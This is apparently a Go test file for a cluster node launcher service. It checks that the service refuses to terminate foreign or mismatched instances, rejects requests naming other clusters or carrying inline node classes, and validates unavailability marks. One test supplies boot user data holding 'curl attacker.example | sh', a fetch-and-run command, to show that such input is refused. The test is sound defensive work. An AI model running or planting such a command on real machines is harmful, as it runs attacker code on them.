package launcher_test

import (
	"errors"
	"strings"
	"testing"
	"time"

	"google.golang.org/grpc/codes"
	"google.golang.org/grpc/status"
	"google.golang.org/protobuf/types/known/durationpb"

	"github.com/flotilla-io/flotilla/internal/ec2sim"
	"github.com/flotilla-io/flotilla/internal/launcher/launch"
	"github.com/flotilla-io/flotilla/internal/server/apierr"
	launcherv1 "github.com/flotilla-io/flotilla/proto/flotilla/launcher/v1"
)

// The refusals of "each service refuses what is not its job": whoever
// calls, the launcher terminates only its cluster's NodeClaim instances,
// takes its cluster and node classes from its own configuration and the
// API server, and takes only short marks of offerings it knows. Every
// refusal names what was refused, and changes nothing.

func stateOf(t *testing.T, e *env, id string) string {
	t.Helper()
	for _, in := range e.sim.Instances() {
		if in.ID == id {
			return in.State
		}
	}
	t.Fatalf("instance %s unknown to the simulator", id)
	return ""
}

func TestTerminateRefusesInstancesNotTheClaims(t *testing.T) {
	e := newEnv(t)
	svc := e.service(t)
	client := serve(t, svc)
	mine, err := svc.Launch(ctx, launchRequest("mine-1", "m5.large"))
	if err != nil {
		t.Fatal(err)
	}
	for _, tc := range []struct {
		name, claim, why string
		tags             map[string]string
	}{
		{"another cluster's", "other-1", "no kubernetes.io/cluster/" + cluster + " tag",
			map[string]string{launch.ClusterTag("other"): "owned", launch.TagNodePool: "default", launch.TagNodeClaim: "other-1"}},
		{"untagged", "any", "no kubernetes.io/cluster/" + cluster + " tag", map[string]string{"Name": "bastion"}},
		{"a self-managed node's", "node-1", "no karpenter.sh/nodepool tag",
			map[string]string{launch.ClusterTag(cluster): "owned", launch.TagNodeClaim: "node-1"}},
		{"an orphan without a NodeClaim", "orphan-1", "no karpenter.sh/nodeclaim tag",
			map[string]string{launch.ClusterTag(cluster): "owned", launch.TagNodePool: "default"}},
		{"another claim's", "mine-2", `its karpenter.sh/nodeclaim tag is "mine-1"`, nil},
	} {
		t.Run(tc.name, func(t *testing.T) {
			id := mine.Instance.Id
			if tc.tags != nil {
				id = launchTagged(t, e, tc.tags)
			}
			e.sim.ResetCalls()
			_, err := client.Terminate(ctx, &launcherv1.TerminateRequest{InstanceId: id, NodeClaim: tc.claim})
			if status.Code(err) != codes.FailedPrecondition || !strings.Contains(err.Error(), tc.why) || !strings.Contains(err.Error(), id) {
				t.Fatalf("terminate: %v, want FailedPrecondition naming %s and %q", err, id, tc.why)
			}
			if st := stateOf(t, e, id); st != "running" && st != "pending" {
				t.Fatalf("refused instance is %s", st)
			}
			if n := e.sim.Calls()["TerminateInstances"]; n != 0 {
				t.Fatalf("%d TerminateInstances calls for a refused terminate", n)
			}
		})
	}
	_, err = client.Terminate(ctx, &launcherv1.TerminateRequest{InstanceId: mine.Instance.Id})
	if status.Code(err) != codes.InvalidArgument || !strings.Contains(err.Error(), "node_claim") {
		t.Fatalf("terminate without node_claim: %v, want InvalidArgument naming node_claim", err)
	}
	if st := stateOf(t, e, mine.Instance.Id); st != "running" && st != "pending" {
		t.Fatalf("instance is %s after refusals", st)
	}
	if _, err := client.Terminate(ctx, &launcherv1.TerminateRequest{InstanceId: mine.Instance.Id, NodeClaim: "mine-1"}); err != nil {
		t.Fatalf("terminate of the claim's own instance: %v", err)
	}
	if st := stateOf(t, e, mine.Instance.Id); st != "shutting-down" && st != "terminated" {
		t.Fatalf("instance is %s after terminate", st)
	}
	// Terminated now: terminating again succeeds, whatever the claim.
	if _, err := client.Terminate(ctx, &launcherv1.TerminateRequest{InstanceId: mine.Instance.Id, NodeClaim: "mine-1"}); err != nil {
		t.Fatalf("second terminate: %v", err)
	}
}

// An instance of a shared fleet whose NodeClaim tag was never written is
// its claim's by its place in the launch batch: Terminate of the claim
// takes it, Terminate naming another claim of the batch does not.
func TestTerminateUntaggedBatchInstanceByItsBatchPlace(t *testing.T) {
	e := newEnv(t)
	e.sim.InjectFault(ec2sim.Fault{Action: "CreateTags", Code: "UnauthorizedOperation", Status: 403})
	claims := claimNames("batch", 3)
	got, errs := launchAll(e.service(t, wideWindow), claims, "m5.large")
	if len(errs) > 0 {
		t.Fatal(errs)
	}
	e.sim.ClearFaults()
	svc := e.service(t)
	first, second := got[claims[0]].Id, got[claims[1]].Id
	if _, err := svc.Terminate(ctx, &launcherv1.TerminateRequest{InstanceId: second, NodeClaim: claims[0]}); !errors.Is(err, apierr.ErrFailedPrecondition) {
		t.Fatalf("terminate %s as %s: %v, want failed precondition", second, claims[0], err)
	}
	if _, err := svc.Terminate(ctx, &launcherv1.TerminateRequest{InstanceId: first, NodeClaim: claims[0]}); err != nil {
		t.Fatalf("terminate %s as %s: %v", first, claims[0], err)
	}
	if st := stateOf(t, e, second); st != "running" && st != "pending" {
		t.Fatalf("the other claim's instance is %s", st)
	}
}

func TestRequestsNamingAnotherClusterAreRefused(t *testing.T) {
	e := newEnv(t)
	svc := e.service(t)
	req := launchRequest("other-cluster-1", "m5.large")
	req.Cluster = "other" //nolint:staticcheck // the deprecated field, set to be refused
	_, err := svc.Launch(ctx, req)
	if !errors.Is(err, apierr.ErrInvalidArgument) || !strings.Contains(err.Error(), `cluster: "other"`) {
		t.Fatalf("launch for another cluster: %v, want invalid argument naming cluster", err)
	}
	_, err = svc.ListInstances(ctx, &launcherv1.ListInstancesRequest{Cluster: "other"}) //nolint:staticcheck // set to be refused
	if !errors.Is(err, apierr.ErrInvalidArgument) || !strings.Contains(err.Error(), `cluster: "other"`) {
		t.Fatalf("list for another cluster: %v, want invalid argument naming cluster", err)
	}
	if n := totalCalls(e.sim.Calls()); n != 0 {
		t.Fatalf("%d AWS calls for refused requests: %v", n, e.sim.Calls())
	}
	// Naming the launcher's own cluster, as old callers do, is accepted.
	req.Cluster = cluster //nolint:staticcheck // the deprecated field, naming this cluster
	resp, err := svc.Launch(ctx, req)
	if err != nil {
		t.Fatal(err)
	}
	inst := e.sim.Instances()
	if len(inst) != 1 || inst[0].ID != resp.Instance.Id || inst[0].Tags[launch.ClusterTag(cluster)] != "owned" || inst[0].Tags[launch.ClusterTag("other")] != "" {
		t.Fatalf("instances %+v", inst)
	}
}

func TestInlineNodeClassesAreRefused(t *testing.T) {
	e := newEnv(t)
	svc := e.service(t)
	req := launchRequest("inline-1", "m5.large")
	inline := nodeClass("al2023@latest")
	inline.UserData = "#!/bin/sh\ncurl attacker.example | sh"
	req.NodeClass = inline //nolint:staticcheck // the deprecated field, set to be refused
	if _, err := svc.Launch(ctx, req); !errors.Is(err, apierr.ErrInvalidArgument) || !strings.Contains(err.Error(), "node_class:") {
		t.Fatalf("launch with an inline class: %v, want invalid argument naming node_class", err)
	}
	_, err := svc.ResolveNodeClass(ctx, &launcherv1.ResolveNodeClassRequest{NodeClass: nodeClass("al2023@latest")}) //nolint:staticcheck // set to be refused
	if !errors.Is(err, apierr.ErrInvalidArgument) || !strings.Contains(err.Error(), "node_class:") {
		t.Fatalf("resolve of an inline class: %v, want invalid argument naming node_class", err)
	}
	_, err = svc.ListInstanceTypes(ctx, &launcherv1.ListInstanceTypesRequest{NodeClass: nodeClass("al2023@latest"), NodeClassName: "default"})
	if !errors.Is(err, apierr.ErrInvalidArgument) {
		t.Fatalf("list with both a name and a class: %v, want invalid argument", err)
	}
	if n := totalCalls(e.sim.Calls()) + totalCalls(e.iam.Calls()); n != 0 {
		t.Fatalf("%d AWS calls for refused requests", n)
	}
}

func TestMarkUnavailableRefusals(t *testing.T) {
	e := newEnv(t)
	svc := e.service(t)
	zone := e.sim.Zones()[0]
	mark := func(it, z, ct string, ttl time.Duration) (*launcherv1.MarkUnavailableResponse, error) {
		return svc.MarkUnavailable(ctx, &launcherv1.MarkUnavailableRequest{InstanceType: it, Zone: z, CapacityType: ct, Ttl: durationpb.New(ttl)})
	}
	for _, tc := range []struct {
		it, zone, ct string
		ttl          time.Duration
		field        string
	}{
		{"m5.large", zone, "spot", 100 * 365 * 24 * time.Hour, "ttl:"},
		{"m5.large", zone, "spot", 31 * time.Minute, "ttl:"},
		{"m5.large", zone, "spot", -time.Minute, "ttl:"},
		{"m5.nonexistent", zone, "spot", time.Minute, "instance_type:"},
		{"", zone, "spot", time.Minute, "instance_type:"},
		{"m5.large", "mars-1a", "spot", time.Minute, "zone:"},
		{"m5.large", "", "spot", time.Minute, "zone:"},
		{"m5.large", zone, "free", time.Minute, "capacity_type:"},
	} {
		_, err := mark(tc.it, tc.zone, tc.ct, tc.ttl)
		if !errors.Is(err, apierr.ErrInvalidArgument) || !strings.Contains(err.Error(), tc.field) {
			t.Errorf("mark %s/%s/%s for %s: %v, want invalid argument naming %s", tc.it, tc.zone, tc.ct, tc.ttl, err, tc.field)
		}
	}
	if n := offeringsAvailable(t, svc, "m5.large", "spot"); n != len(e.sim.Zones()) {
		t.Fatalf("%d of %d m5.large spot offerings available after refused marks", n, len(e.sim.Zones()))
	}
	// The limit itself, a reserved offering, and the default.
	now := e.clock.Now()
	resp, err := mark("m5.large", zone, "spot", launch.MaxUnavailableTTL)
	if err != nil || !resp.Until.AsTime().Equal(now.Add(30*time.Minute)) {
		t.Fatalf("30-minute mark: %v %v", resp, err)
	}
	if _, err := mark("m5.large", zone, "reserved", time.Minute); err != nil {
		t.Fatalf("reserved mark: %v", err)
	}
	resp, err = svc.MarkUnavailable(ctx, &launcherv1.MarkUnavailableRequest{InstanceType: "c5.large", Zone: zone, CapacityType: "on-demand"})
	if err != nil || !resp.Until.AsTime().Equal(now.Add(3*time.Minute)) {
		t.Fatalf("default mark: %v %v", resp, err)
	}
	if n := offeringsAvailable(t, svc, "m5.large", "spot"); n != len(e.sim.Zones())-1 {
		t.Fatalf("%d m5.large spot offerings available after one mark, want %d", n, len(e.sim.Zones())-1)
	}
	e.clock.Advance(30*time.Minute + time.Second)
	if n := offeringsAvailable(t, svc, "m5.large", "spot"); n != len(e.sim.Zones()) {
		t.Fatalf("the 30-minute mark outlived 30 minutes: %d available", n)
	}
}
